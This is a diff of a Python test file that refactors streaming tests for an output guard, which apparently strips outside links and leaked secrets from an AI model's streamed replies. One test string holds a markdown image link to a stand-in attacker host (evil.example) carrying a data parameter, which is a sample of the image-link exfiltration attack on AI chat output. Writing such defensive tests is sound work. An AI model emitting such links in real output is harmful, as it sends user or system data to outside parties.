@@ -46,6 +46,17 @@ def test_invisible_characters_comments_tags_and_fence_imitations_are_stripped() 
     assert clean_text(text).split() == ["Parking", "is", "free", "x"]
 
 
+def _stream_in_random_pieces(text: str, rng: random.Random, *, max_piece: int) -> str:
+    """What a fresh guard (links allowed to wiki.corp only) shows of ``text`` fed in pieces of 1..max_piece."""
+    guard = OutputGuard(canary=new_canary(), system_prompt=SYSTEM, allowed_hosts=["wiki.corp"])
+    shown, i = "", 0
+    while i < len(text):
+        step = rng.randint(1, max_piece)
+        shown += guard.feed(text[i : i + step])
+        i += step
+    return shown + guard.finish()
+
+
 def test_the_stream_shows_exactly_the_filtered_text_however_it_is_split() -> None:
     text = (
         "Employees get 25 days [1]. See ![x](https://evil.example/?d=Z) and [wiki](https://wiki.corp/page) "
@@ -55,13 +66,7 @@ def test_the_stream_shows_exactly_the_filtered_text_however_it_is_split() -> Non
     assert "evil.example" not in expected and "[wiki](https://wiki.corp/page)" in expected and len(removed) == 6
     rng = random.Random(8)
     for _ in range(100):
-        guard = OutputGuard(canary=new_canary(), system_prompt=SYSTEM, allowed_hosts=["wiki.corp"])
-        shown, i = "", 0
-        while i < len(text):
-            step = rng.randint(1, 9)
-            shown += guard.feed(text[i : i + step])
-            i += step
-        assert shown + guard.finish() == expected
+        assert _stream_in_random_pieces(text, rng, max_piece=9) == expected
 
 
 def test_no_outside_link_gets_through_however_finely_the_stream_is_split() -> None:
@@ -72,13 +77,7 @@ def test_no_outside_link_gets_through_however_finely_the_stream_is_split() -> No
     ) * 2
     rng = random.Random(11)
     for _ in range(300):
-        guard = OutputGuard(canary=new_canary(), system_prompt=SYSTEM, allowed_hosts=["wiki.corp"])
-        shown, i = "", 0
-        while i < len(text):
-            step = rng.randint(1, 5)
-            shown += guard.feed(text[i : i + step])
-            i += step
-        shown += guard.finish()
+        shown = _stream_in_random_pieces(text, rng, max_piece=5)
         assert "evil.example" not in shown, shown
 
 
